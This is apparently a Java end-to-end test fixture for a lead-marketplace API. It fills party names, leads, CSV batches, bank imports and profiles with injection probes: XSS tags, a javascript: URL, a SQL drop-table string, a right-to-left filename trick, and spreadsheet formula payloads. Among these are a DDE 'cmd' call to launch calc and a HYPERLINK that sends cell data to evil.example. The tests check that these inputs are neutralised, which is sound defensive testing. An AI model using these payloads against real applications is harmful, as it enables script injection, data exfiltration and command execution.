package dev.galena.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;

/** What somebody with bad intent types, and a market that is full of it. */
final class Hostile {
    /** Sets what {@link Watch} listens for, in each of the ways in which text becomes a page. */
    static final String MARKUP = "'\"><script>hacked=1</script><img src=x onerror=hacked=2><svg onload=hacked=3>"
            + "<b onclick=hacked=4>b</b>{{hacked}}$t(nav.find)${hacked=5}";

    static final String SHORT = "<img src=x onerror=hacked=6>";
    static final String ADDRESS = "javascript:hacked=7//";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    static final String SQL = "'; drop table market.lead; --";
    static final String BACKWARDS = "\u202Egpj.exe\u202C";
    static final String LONG = "W".repeat(100);

    /** Each short enough for most fields. */
    static final List<String> TEXTS = List.of(
            MARKUP, SHORT, ADDRESS, FORMULA, SQL, BACKWARDS, LONG, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd");

    private final Console operator;
    private final Console seller;
    private final Console buyer;
    private final Console officer;

    Hostile(Console operator, Console seller, Console buyer, Console officer) {
        this.operator = operator;
        this.seller = seller;
        this.buyer = buyer;
        this.officer = officer;
    }

    /** Where what was stored is shown besides the screens of the navigation. */
    record Stored(String party, String batch, String lead, String sale, String person) {}

    Stored store() {
        var party = market();
        var leads = leads();
        var batch = batch();
        var sales = leads.stream().map(this::bought).toList();
        trade(sales);
        var person = papers(leads.getFirst());
        return new Stored(party, batch, leads.getFirst(), sales.getFirst(), person);
    }

    private static String cut(String text, int max) {
        return text.substring(0, Math.min(max, text.length()));
    }

    private static JsonObject money(long minorUnits) {
        return JsonObject.of("amount", minorUnits, "currency", "XTS");
    }

    private String market() {
        String party = null;
        for (var text : TEXTS) {
            var applicant = JsonObject.of("name", text, "roles", JsonArray.of("buyer", "seller"), "currency", "XTS");
            party = operator.done("POST", "/v1/parties", applicant).getString("id");
        }
        var plan = JsonObject.of("code", "hostile", "name", MARKUP, "price", money(100), "quota", 10);
        operator.done("POST", "/v1/plans", plan);
        var vertical = operator.done("GET", "/v1/verticals/education", null).copy();
        vertical.remove("version");
        rules(vertical.getString("rule_set"));
        vertical.put("code", "hostile").put("name", cut(MARKUP, 100)).put("rule_set", "hostile");
        vertical.getJsonArray("fields").stream()
                .map(JsonObject.class::cast)
                .forEach(field -> field.put("label", SHORT + field.getString("name")));
        vertical.getJsonArray("fields")
                .add(JsonObject.of("name", "remark", "label", cut(MARKUP, 100), "type", "text", "max_length", 300)
                        .put("shown", false));
        operator.done("POST", "/v1/verticals", vertical);
        var buyerId = buyer.done("GET", "/v1/me", null).getJsonObject("party").getString("id");
        for (var text : TEXTS)
            operator.done(
                    "POST",
                    "/v1/parties/" + buyerId + "/promo-credits",
                    JsonObject.of("amount", money(100), "reason", text));
        operator.done("POST", "/v1/parties/" + party + "/freeze", JsonObject.of("reason", MARKUP));
        operator.done("POST", "/v1/suppression-sources", JsonObject.of("name", SHORT + SQL));
        operator.send(
                "POST",
                "/v1/suppressions/files?reason=dnc&list=" + Console.encoded(SHORT),
                "text/csv",
                "phone\n+12135550100\n");
        var statement = new StringBuilder("date,amount,currency,text\n");
        for (var text : TEXTS)
            statement
                    .append("2026-11-20,12.50,XTS,\"")
                    .append(text.replace("\"", "\"\""))
                    .append("\"\n");
        var read = operator.send("POST", "/v1/bank-imports", "text/csv", statement.toString());
        assertThat(read.status()).as(read.body()).isEqualTo(201);
        return party;
    }

    /** As others, with other words; the leads of the hostile vertical are judged by them. */
    private void rules(String like) {
        var rules = operator.done("GET", "/v1/rule-sets/" + like + "/versions/1", null)
                .getJsonObject("rules")
                .copy();
        for (var own : List.of("code", "version", "effective_from")) rules.remove(own);
        rules.put("title", MARKUP).put("source", SHORT).put("notes", FORMULA).put("jurisdiction", ADDRESS);
        var today = LocalDate.now(ZoneOffset.UTC).toString();
        var body = JsonObject.of("code", "hostile", "effective_from", today, "rules", rules);
        operator.done("POST", "/v1/rule-sets", body);
    }

    /** Not for the seller, who would have to sign all he hands in from then on. */
    private static void signingKey(Console whose, String label) {
        try {
            var party = whose.done("GET", "/v1/me", null).getJsonObject("party").getString("id");
            var pair = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
            var signature = Signature.getInstance("Ed25519");
            signature.initSign(pair.getPrivate());
            signature.update(("galena.signing-key/1\0" + party).getBytes(StandardCharsets.UTF_8));
            var encoded = pair.getPublic().getEncoded();
            var bare = Arrays.copyOfRange(encoded, encoded.length - 32, encoded.length);
            whose.done(
                    "POST",
                    "/v1/signing-keys",
                    JsonObject.of("label", label)
                            .put("public_key", Base64.getEncoder().encodeToString(bare))
                            .put("signature", Base64.getEncoder().encodeToString(signature.sign())));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** One lead a text. */
    private List<String> leads() {
        seller.done("POST", "/v1/sources", JsonObject.of("code", "hostile"));
        var leads = new ArrayList<String>();
        for (int n = 0; n < TEXTS.size(); n++) {
            var text = TEXTS.get(n);
            var at = Instant.now().minusSeconds(600).toString();
            var name = cut(text, 100);
            var contact = JsonObject.of("first_name", name, "last_name", name, "street", text, "city", name)
                    .put("email", "hostile" + n + "@example.com")
                    .put("phone", "+1213556" + (8000 + n));
            var words = text + " I agree that X Education and Northfield College may call and text me. "
                    + "My consent is not a condition of any purchase.";
            var consent = JsonObject.of("text", words, "at", at, "channels", JsonArray.of("call", "sms"))
                    .put("page_url", ADDRESS)
                    .put("user_agent", text)
                    .put("act", text)
                    .put("ip", "198.51.100.7");
            var body = JsonObject.of("source", "hostile", "vertical", "hostile", "state", "CA", "zip", "90012")
                    .put("generated_at", at)
                    .put("subs", JsonArray.of(name, cut(MARKUP, 100), FORMULA))
                    .put("contact", contact)
                    .put("consent", consent)
                    .put("attributes", JsonObject.of("remark", text));
            leads.add(seller.done("POST", "/v1/leads", body).getString("id"));
        }
        return leads;
    }

    private String batch() {
        var heads = new StringBuilder("First Name,Email,Phone,State");
        var cells = new StringBuilder(MARKUP.replace(",", "") + ",nobody,12,CA");
        for (var text : TEXTS) {
            heads.append(",\"").append(text.replace("\"", "\"\"")).append('"');
            cells.append(",\"").append(text.replace("\"", "\"\"")).append('"');
        }
        var batch = seller.send(
                "POST", "/v1/batches?source=hostile&vertical=hostile", "text/csv", heads + "\n" + cells + "\n");
        return batch.json().getString("id");
    }

    private String bought(String lead) {
        var bought = buyer.done("POST", "/v1/purchases", JsonObject.of("listing", lead));
        return bought.encode().replaceFirst(".*\"(sal_[0-9a-z]{26})\".*", "$1");
    }

    private void trade(List<String> sales) {
        for (var text : List.of(cut(MARKUP, 100), SHORT, FORMULA)) signingKey(buyer, text);
        var holder = JsonObject.of("method", "sepa", "holder", SHORT + FORMULA.substring(0, 20));
        seller.done("PUT", "/v1/payout-destination", holder.put("account", "DE89370400440532013000"));
        for (int n = 0; n < sales.size(); n++)
            buyer.done("GET", "/v1/sales/" + sales.get(n) + "/contact?purpose=" + Console.encoded(TEXTS.get(n)), null);
        for (var trader : List.of(seller, buyer)) {
            var role = trader == buyer ? "buyer" : "seller";
            for (var text : List.of(cut(MARKUP, 100), FORMULA, SQL))
                trader.done(
                        "POST", "/v1/api-keys", JsonObject.of("name", text, "scopes", JsonArray.of("webhooks:write")));
            var user = JsonObject.of("email", "\"><svg/onload=hacked=8>@" + role + ".example.com");
            trader.done("POST", "/v1/users", user.put("roles", JsonArray.of(role)));
        }
        for (var party : List.of(operator, seller, buyer))
            party.done(
                    "PUT",
                    "/v1/profile",
                    JsonObject.of("name", MARKUP, "street", MARKUP, "city", SHORT)
                            .put("postcode", "1")
                            .put("country", "US")
                            .put("email", "billing@example.com")
                            .put("registration", SHORT)
                            .put("rhythm", "purchase")
                            .put("self_billing", true));
    }

    private String papers(String lead) {
        var person = JsonObject.of("email", "hostile0@example.com");
        for (var text : TEXTS) {
            officer.done("POST", "/v1/subjects/search", JsonObject.of("person", person, "purpose", text));
            officer.done("GET", "/v1/leads/" + lead + "/trail?purpose=" + Console.encoded(text), null);
        }
        for (var text : List.of(MARKUP, FORMULA, BACKWARDS))
            officer.done("POST", "/v1/holds", JsonObject.of("person", person, "reason", text));
        var another = JsonObject.of("email", "hostile3@example.com");
        officer.done("POST", "/v1/erasures", JsonObject.of("person", another, "ground", "other-law", "reason", MARKUP));
        officer.done(
                "POST",
                "/v1/revocations",
                JsonObject.of("person", JsonObject.of("email", "hostile1@example.com"), "channel", SHORT));
        return officer.done("GET", "/v1/leads/" + lead + "/trail?purpose=" + Console.encoded(SHORT), null)
                .getJsonObject("consent")
                .getString("subject");
    }

    static void assertGuarded(String cell) {
        assertThat(cell).as("a cell of a file").doesNotContainPattern("^[=+@\t\r]|^-(?![0-9.]+$)");
    }
}
